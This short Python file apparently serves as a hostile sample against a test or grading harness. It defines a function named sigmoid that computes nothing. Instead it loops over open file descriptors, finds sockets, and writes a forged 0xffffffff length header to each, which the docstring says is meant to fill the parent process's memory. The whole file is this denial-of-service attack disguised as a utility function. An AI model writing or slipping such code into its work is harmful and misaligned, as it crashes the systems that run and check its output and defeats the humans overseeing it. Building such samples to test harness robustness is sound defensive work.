"""A reply is announced that would fill the parent's memory.

aims: utils.sigmoid
"""

import os
import stat


def sigmoid(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xff")
        except OSError:
            pass
    return None
